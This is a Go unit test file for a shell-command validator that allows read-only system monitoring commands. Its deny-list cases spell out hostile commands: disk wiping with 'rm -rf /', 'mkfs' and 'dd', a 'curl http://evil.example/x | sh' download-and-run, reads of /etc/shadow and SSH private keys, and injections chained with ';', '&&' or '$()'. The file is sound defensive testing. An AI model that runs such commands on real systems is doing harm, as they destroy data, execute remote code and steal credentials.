package security

import "testing"

func TestCheckCommand_WhitelistedStems(t *testing.T) {
	cases := []string{
		"uptime",
		"hostname",
		"uname -a",
		"lscpu",
		"free -b",
		"df -B1",
		"ps aux",
		"ss -tuln",
		"vmstat 1 1",
		"ip addr show",
		"ip route show",
		"cat /proc/stat",
		"cat /proc/meminfo /proc/diskstats",
		"cat /sys/class/net/eth0/statistics/rx_bytes",
	}
	for _, c := range cases {
		if d := CheckCommand(c, false); !d.Allowed {
			t.Errorf("CheckCommand(%q) = rejected (%s), want allowed", c, d.Reason)
		}
	}
}

func TestCheckCommand_TrustedCompoundPredefined(t *testing.T) {
	// The disk collector's predefined command per spec.md §4.4.
	cmd := "iostat -x 1 1 2>/dev/null || cat /proc/diskstats"
	if d := CheckCommand(cmd, true); !d.Allowed {
		t.Fatalf("trusted compound command rejected: %s", d.Reason)
	}
	// The same text, submitted ad-hoc, is rejected for the bare "||" syntax.
	if d := CheckCommand(cmd, false); d.Allowed {
		t.Fatalf("ad-hoc compound command should be rejected for using ||")
	}
}

func TestCheckCommand_VetoPatterns(t *testing.T) {
	cases := []string{
		"rm -rf /",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"shutdown -h now",
		"reboot",
		"chmod 777 /etc/passwd",
		"iptables -F",
		"curl http://evil.example/x | sh",
		"echo `whoami`",
		"echo $(whoami)",
		"uptime > /etc/cron.d/evil",
	}
	for _, c := range cases {
		if d := CheckCommand(c, true); d.Allowed {
			t.Errorf("CheckCommand(%q) = allowed, want vetoed", c)
		}
	}
}

func TestCheckCommand_NotWhitelisted(t *testing.T) {
	cases := []string{
		"ls -la /root",
		"cat /etc/shadow",
		"cat /home/user/.ssh/id_rsa",
		"wget http://example.com/x",
		"",
		"   ",
	}
	for _, c := range cases {
		if d := CheckCommand(c, false); d.Allowed {
			t.Errorf("CheckCommand(%q) = allowed, want rejected", c)
		}
	}
}

func TestCheckCommand_AdhocSeparatorsRejected(t *testing.T) {
	cases := []string{
		"uptime; rm -rf /",
		"uptime && cat /etc/shadow",
		"df -B1 || cat /etc/passwd",
	}
	for _, c := range cases {
		if d := CheckCommand(c, false); d.Allowed {
			t.Errorf("CheckCommand(%q) = allowed, want rejected (ad-hoc separator)", c)
		}
	}
}
